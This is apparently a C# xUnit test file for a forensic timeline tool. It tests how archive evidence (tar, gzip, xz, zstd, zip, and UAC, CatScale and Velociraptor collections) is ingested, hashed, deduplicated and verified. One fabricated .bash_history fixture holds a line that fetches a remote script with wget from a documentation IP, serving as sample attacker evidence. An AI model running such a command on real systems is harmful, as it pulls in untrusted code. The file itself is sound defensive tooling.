using System.Formats.Tar;
using System.Security.Cryptography;
using System.Text;
using Timeline.Core.Ingest;
using Timeline.Core.Ingest.Archives;
using Timeline.Core.Store;
using Timeline.Pipeline;
using Timeline.Tests.Support;
using Xunit;
using static Timeline.Tests.Ingest.Archives.ArchiveBuilder;

namespace Timeline.Tests.Ingest.Archives;

/// <summary>Archives as evidence: every format by magic bytes, nested archives, provenance, dedupe, collector layouts.</summary>
public sealed class ArchiveIngestTests
{
    private const string AuthLog = "Mar  2 03:15:02 web01 sshd[1]: Accepted password for root from 203.0.113.45 port 22 ssh2\nMar  2 03:16:02 web01 sshd[2]: Accepted password for alice from 203.0.113.46 port 22 ssh2\n";

    private static string Sha(byte[] bytes) => Convert.ToHexStringLower(SHA256.HashData(bytes));

    internal static (string Dir, string Case, IngestReport Report) IngestArchive(string fileName, byte[] archive, IngestOptions? options = null)
    {
        var dir = Some.TempDir();
        var path = Path.Combine(dir, fileName);
        File.WriteAllBytes(path, archive);
        var casePath = Path.Combine(dir, "case.db");
        using var store = CaseStores.OpenForWrite(casePath);
        var report = IngestStep.Run(store, [path], options ?? new IngestOptions { Year = 2024 });
        return (dir, casePath, report);
    }

    public static TheoryData<string, string> Formats() => new()
    {
        { "tar", "evidence.bin" },
        { "tar.gz", "evidence.dat" },
        { "tar.xz", "evidence" },
        { "tar.zst", "x.tgz" },
        { "zip", "y.tar" },
    };

    [Theory]
    [MemberData(nameof(Formats))]
    public void EachFormatIsReadByMagicBytesWithBothHashesAndTheServerPath(string format, string misleadingName)
    {
        var tar = Tar(("var/log/auth.log", AuthLog), ("etc/motd", "welcome\n"));
        var archive = format switch
        {
            "tar" => tar,
            "tar.gz" => Gzip(tar),
            "tar.xz" => Xz(tar),
            "tar.zst" => Zstd(tar),
            _ => Zip(("var/log/auth.log", AuthLog), ("etc/motd", "welcome\n")),
        };
        var (dir, casePath, _) = IngestArchive(misleadingName, archive);
        using var read = CaseStores.OpenForRead(casePath);
        var files = read.Files().ToList();
        var archiveRecord = Assert.Single(files, f => f.Format == "archive/" + format);
        Assert.Equal(Sha(archive), archiveRecord.Sha256);
        var member = Assert.Single(files, f => f.Path.EndsWith("!/var/log/auth.log", StringComparison.Ordinal));
        Assert.Equal(Path.Combine(dir, misleadingName) + "!/var/log/auth.log", member.Path);
        Assert.Equal(Sha(Encoding.UTF8.GetBytes(AuthLog)), member.Sha256);
        Assert.Equal(archiveRecord.Sha256, member.ArchiveSha256);
        Assert.Equal("/var/log/auth.log", member.HostPath);
        Assert.Equal(2, member.Events);
        Assert.All(read.Events(), e => Assert.Equal(member.Path, e.Origin.File));
    }

    [Fact]
    public void AGzipCompressedLogIsStillALogNotAnArchive()
    {
        var (_, casePath, _) = IngestArchive("auth.log.1.gz", Gzip(Encoding.UTF8.GetBytes(AuthLog)));
        using var read = CaseStores.OpenForRead(casePath);
        var file = Assert.Single(read.Files());
        Assert.False(ArchiveFormatNames.IsArchive(file.Format));
        Assert.Null(file.ArchiveSha256);
        Assert.Equal(2, file.Events);
    }

    [Fact]
    public void ANestedCatScaleArchiveIsReadWithItsHostAndCollectionTime()
    {
        var inner = Gzip(Tar(("var/log/auth.log", AuthLog)));
        var outer = Gzip(Tar(
            ("catscale_out/Logs/web01-20240302-0400-var-log.tar.gz", inner),
            ("catscale_out/Process_and_Network/web01-20240302-0400-processes-axwwSo.txt", Encoding.UTF8.GetBytes("PID CMD\n1 init\n"))));
        var (dir, casePath, _) = IngestArchive("catscale_web01-20240302-0400.tar.gz", outer, new IngestOptions { Year = 2024 });
        using var read = CaseStores.OpenForRead(casePath);
        var files = read.Files().ToList();
        var outerPath = Path.Combine(dir, "catscale_web01-20240302-0400.tar.gz");
        var nested = Assert.Single(files, f => f.Path == outerPath + "!/catscale_out/Logs/web01-20240302-0400-var-log.tar.gz");
        Assert.Equal("archive/tar.gz", nested.Format);
        Assert.Equal(Sha(inner), nested.Sha256);
        var member = Assert.Single(files, f => f.Path == nested.Path + "!/var/log/auth.log");
        Assert.Equal(Sha(outer), member.ArchiveSha256);
        Assert.Equal("/var/log/auth.log", member.HostPath);
        var outerRecord = Assert.Single(files, f => f.Path == outerPath);
        Assert.Contains("CatScale collection", outerRecord.HostNote);
        Assert.Contains("host 'web01'", outerRecord.HostNote);
        Assert.Contains("collected 2024-03-02T04:01:00Z", outerRecord.HostNote);
    }

    [Fact]
    public void AUacArchiveNamesHostAndTimeAndEventsAfterTheCollectionAreWarned()
    {
        var uacLog = "2024-03-02 11:00:00 +0100 INFO UAC (Unix-like Artifacts Collector) 3.0.0\n2024-03-02 11:05:00 +0100 INFO Hostname: web01\n2024-03-02 12:00:00 +0100 INFO Collection finished\n";
        // The second line is after 11:00 UTC, the end of the collection: a wrong year, zone or a forged time.
        var auth = "Mar  2 03:15:02 web01 sshd[1]: Accepted password for root from 203.0.113.45 port 22 ssh2\nMar  2 13:00:00 web01 sshd[2]: Accepted password for root from 203.0.113.45 port 22 ssh2\n";
        var archive = Gzip(Tar(
            ("uac.log", uacLog),
            ("[root]/var/log/auth.log", auth),
            ("[root]/home/alice/.bash_history", "#1709348000\nwget http://198.51.100.7/x.sh\n"),
            ("live_response/process/ps_auxwww.txt", "USER PID\n")));
        var (_, casePath, _) = IngestArchive("uac-web01-linux-20240302110000.tar.gz", archive);
        using var read = CaseStores.OpenForRead(casePath);
        var files = read.Files().ToList();
        var history = Assert.Single(files, f => f.Path.EndsWith("!/[root]/home/alice/.bash_history", StringComparison.Ordinal));
        Assert.Equal("/home/alice/.bash_history", history.HostPath);
        var historyEvent = Assert.Single(read.Events(), e => e.Origin.File == history.Path);
        Assert.Equal("web01", historyEvent.Host);
        Assert.Equal("alice", historyEvent.Fields.Get("user"));
        Assert.Contains("host 'web01' from UAC's uac.log", Assert.Single(files, f => f.Format == "archive/tar.gz").HostNote);
        var late = Assert.Single(read.Warnings(), w => w.Message.Contains("after the collection time", StringComparison.Ordinal));
        Assert.Contains("1 event(s)", late.Message);
        Assert.Contains("2024-03-02T11:00:00Z", late.Message);
    }

    [Fact]
    public void AVelociraptorZipUnescapesUploadPathsAndTakesTheHostFromClientInfo()
    {
        var archive = Zip(
            ("client_info.json", "{\"Hostname\":\"web01\",\"Fqdn\":\"web01.example.org\",\"OS\":\"linux\"}"),
            ("uploads/auto/%2Fvar%2Flog%2Fauth.log", AuthLog),
            ("uploads/auto/%2Froot%2F.bash_history", "id\n"),
            ("results/Linux.Sys.Pslist.json", "{}\n"));
        var (_, casePath, _) = IngestArchive("Collection-db01-2024-03-02T12_00_00Z.zip", archive);
        using var read = CaseStores.OpenForRead(casePath);
        var files = read.Files().ToList();
        Assert.Equal("/var/log/auth.log", Assert.Single(files, f => f.Path.EndsWith("auth.log", StringComparison.Ordinal)).HostPath);
        var history = Assert.Single(files, f => f.Path.EndsWith("bash_history", StringComparison.Ordinal));
        Assert.Equal("/root/.bash_history", history.HostPath);
        Assert.All(read.Events().Where(e => e.Origin.File == history.Path), e => Assert.Equal("web01", e.Host));
        // The archive's name says db01: a mismatch is a warning, the collector's metadata wins.
        Assert.Contains(read.Warnings(), w => w.Message.Contains("suggests host 'db01'", StringComparison.Ordinal));
    }

    [Fact]
    public void TheCollectorsOwnFilesAreListedAsCollectorMetadataNotAsUnrecognised()
    {
        var uac = Gzip(Tar(
            ("uac.log", "2024-03-02 11:00:00 +0000 INFO Hostname: web01\n"),
            ("uac.log.stderr", "find: '/proc/1/fd': Permission denied\n"),
            ("[root]/root/.bash_history", "id\n")));
        var (_, uacCase, uacReport) = IngestArchive("uac-web01-linux-20240302110000.tar.gz", uac);
        foreach (var name in new[] { "uac.log", "uac.log.stderr" })
        {
            var file = Assert.Single(uacReport.Files, f => f.Path.EndsWith("!/" + name, StringComparison.Ordinal));
            Assert.Equal(FileStatus.Ingested, file.Status);
            Assert.Equal("metadata/collector", file.Parser);
            Assert.StartsWith("collector metadata: UAC's", file.Note);
        }
        using (var read = CaseStores.OpenForRead(uacCase))
        {
            Assert.Contains("UAC collection", Assert.Single(read.Files(), f => f.Format == "archive/tar.gz").HostNote);
            Assert.DoesNotContain(read.Files(), f => f.Format == "unrecognized");
        }
        Assert.DoesNotContain(uacReport.Files, f => f.Status == FileStatus.Unrecognized);

        var velociraptor = Zip(
            ("client_info.json", "{\"Hostname\":\"web01\"}"),
            ("collection_context.json", "{\"session_id\":\"F.1\"}"),
            ("requests.json", "{\"items\":[]}"),
            ("log.json", "{\"_ts\":1709377200,\"level\":\"INFO\",\"message\":\"Starting collection\"}\n"),
            ("uploads.json", "{}\n"),
            ("uploads.json.index", "\u0000\u0000\u0000\u0000\u0000\u0000\u0000\u0000"),
            ("results/Linux.Sys.Pslist.json.index", "\u0000\u0000\u0000\u0000\u0000\u0000\u0000\u0000"),
            ("uploads/auto/%2Froot%2F.bash_history", "id\n"));
        var (_, _, vrReport) = IngestArchive("Collection-web01-2024-03-02T12_00_00Z.zip", velociraptor);
        Assert.Equal(7, vrReport.Files.Count(f => f.Parser == "metadata/collector"));
        Assert.DoesNotContain(vrReport.Files, f => f.Status == FileStatus.Unrecognized);
        Assert.Contains(vrReport.Files, f => f.Note.Contains("Velociraptor offline collection", StringComparison.Ordinal));
    }

    [Fact]
    public void AFileWithACollectorsMetadataNameOutsideItsCollectionIsEvidenceAsUsual()
    {
        // A plain tar of a home folder holding a file called uac.log is the host's file, not collector metadata.
        var archive = Gzip(Tar(("root/uac.log", "Mar  2 03:15:02 web01 sshd[1]: Accepted password for root from 203.0.113.45 port 22 ssh2\n"), ("etc/hostname", "web01\n")));
        var (_, _, report) = IngestArchive("fs.tgz", archive);
        Assert.DoesNotContain(report.Files, f => f.Parser == "metadata/collector");
    }

    [Fact]
    public void HostOptionWinsOverTheCollectorsHost()
    {
        var archive = Gzip(Tar(("etc/hostname", "web01\n"), ("root/.bash_history", "id\n")));
        var (_, casePath, _) = IngestArchive("fs.tgz", archive, new IngestOptions { Host = "forced" });
        using var read = CaseStores.OpenForRead(casePath);
        Assert.All(read.Events(), e => Assert.Equal("forced", e.Host));
        Assert.NotEmpty(read.Events());
    }

    [Fact]
    public void APlainFileSystemTarTakesItsHostFromEtcHostnameAndReportsItAsMetadata()
    {
        var archive = Gzip(Tar(("./etc/hostname", "web01\n"), ("./root/.bash_history", "id\n")));
        var (_, casePath, report) = IngestArchive("fs.tgz", archive);
        using var read = CaseStores.OpenForRead(casePath);
        Assert.All(read.Events(), e => Assert.Equal("web01", e.Host));
        var meta = Assert.Single(report.Files, f => f.Path.EndsWith("etc/hostname", StringComparison.Ordinal));
        Assert.Equal(FileStatus.Ingested, meta.Status);
        Assert.Equal("metadata/hostname", meta.Parser);
    }

    [Fact]
    public void SameBytesInAFolderAndInAnArchiveAreOneEvidenceFileAndReingestAddsNothing()
    {
        var dir = Some.TempDir();
        Directory.CreateDirectory(Path.Combine(dir, "folder"));
        File.WriteAllText(Path.Combine(dir, "folder", "auth.log"), AuthLog);
        var archive = Path.Combine(dir, "a.tar.gz");
        File.WriteAllBytes(archive, Gzip(Tar(("var/log/auth.log", AuthLog))));
        var casePath = Path.Combine(dir, "case.db");
        using (var store = CaseStores.OpenForWrite(casePath))
        {
            IngestStep.Run(store, [Path.Combine(dir, "folder"), archive], new IngestOptions { Year = 2024 });
            var again = IngestStep.Run(store, [archive], new IngestOptions { Year = 2024 });
            Assert.Equal(FileStatus.AlreadyIngested, Assert.Single(again.Files).Status);
        }
        using var read = CaseStores.OpenForRead(casePath);
        Assert.Single(read.Files(), f => f.Sha256 == Sha(Encoding.UTF8.GetBytes(AuthLog)));
        Assert.Single(read.Files(), f => f.Format == "archive/tar.gz");
        Assert.Equal(2, read.Events().Count());
    }

    [Fact]
    public void EtcHostnameAndTimezoneInAFolderNameTheHostAndZone()
    {
        var dir = Some.TempDir();
        var root = Path.Combine(dir, "web01");
        Directory.CreateDirectory(Path.Combine(root, "etc"));
        Directory.CreateDirectory(Path.Combine(root, "root"));
        Directory.CreateDirectory(Path.Combine(root, "var", "log"));
        File.WriteAllText(Path.Combine(root, "etc", "hostname"), "web01\n");
        File.WriteAllText(Path.Combine(root, "etc", "timezone"), "Europe/Berlin\n");
        File.WriteAllText(Path.Combine(root, "root", ".bash_history"), "id\n");
        File.WriteAllText(Path.Combine(root, "var", "log", "auth.log"), "Mar  2 03:15:02 web01 sshd[1]: Accepted password for root from 203.0.113.45 port 22 ssh2\n");
        var casePath = Path.Combine(dir, "case.db");
        IngestReport report;
        using (var store = CaseStores.OpenForWrite(casePath))
            report = IngestStep.Run(store, [root], new IngestOptions { Year = 2024 });
        Assert.DoesNotContain(report.Files, f => f.Status == FileStatus.Unrecognized);
        Assert.Contains(report.Files, f => f.Parser == "metadata/timezone");
        using var read = CaseStores.OpenForRead(casePath);
        var login = Assert.Single(read.Events(), e => e.Origin.File.EndsWith("auth.log", StringComparison.Ordinal));
        // 03:15:02 in Berlin (UTC+1 in March) is 02:15:02 UTC.
        Assert.Equal(new DateTime(2024, 3, 2, 2, 15, 2, DateTimeKind.Utc), login.TimeUtc);
        Assert.All(read.Events().Where(e => e.Origin.File.EndsWith(".bash_history", StringComparison.Ordinal)), e => Assert.Equal("web01", e.Host));
    }

    [Fact]
    public void TimezoneOptionWinsOverEtcTimezone()
    {
        var dir = Some.TempDir();
        Directory.CreateDirectory(Path.Combine(dir, "etc"));
        File.WriteAllText(Path.Combine(dir, "etc", "timezone"), "Europe/Berlin\n");
        File.WriteAllText(Path.Combine(dir, "auth.log"), "Mar  2 03:15:02 web01 sshd[1]: Accepted password for root from 203.0.113.45 port 22 ssh2\n");
        var casePath = Path.Combine(dir, "case.db");
        using (var store = CaseStores.OpenForWrite(casePath))
            IngestStep.Run(store, [dir], new IngestOptions { Year = 2024, TimeZone = TimeZoneInfo.Utc });
        using var read = CaseStores.OpenForRead(casePath);
        Assert.Equal(new DateTime(2024, 3, 2, 3, 15, 2, DateTimeKind.Utc), Assert.Single(read.Events()).TimeUtc);
    }
}

/// <summary>verify on an archive: the archive and every member are re-hashed.</summary>
public sealed class ArchiveVerifyTests
{
    [Fact]
    public void VerifyRehashesTheArchiveAndEachMemberAndSeesAChangedArchive()
    {
        var archive = Gzip(Tar(("var/log/auth.log", "Mar  2 03:15:02 web01 sshd[1]: Accepted password for root from 203.0.113.45 port 22 ssh2\n")));
        var (dir, casePath, _) = ArchiveIngestTests.IngestArchive("a.tar.gz", archive);
        using (var store = CaseStores.OpenForRead(casePath))
        {
            var result = VerifyStep.Run(store, new VerifyRequest { EvidenceRoots = [] });
            Assert.True(result.AllMatch, string.Join("\n", result.Files));
            var member = Assert.Single(result.Files, f => f.Member is not null);
            Assert.Equal("var/log/auth.log", member.Member);
            Assert.Equal(Path.Combine(dir, "a.tar.gz"), member.Container);
        }
        File.WriteAllBytes(Path.Combine(dir, "a.tar.gz"), Gzip(Tar(("var/log/auth.log", "changed\n"))));
        using (var store = CaseStores.OpenForRead(casePath))
        {
            var result = VerifyStep.Run(store, new VerifyRequest { EvidenceRoots = [] });
            Assert.False(result.AllMatch);
            Assert.Equal(VerifyStatus.Changed, Assert.Single(result.Files, f => f.Member is not null).Status);
        }
    }
}
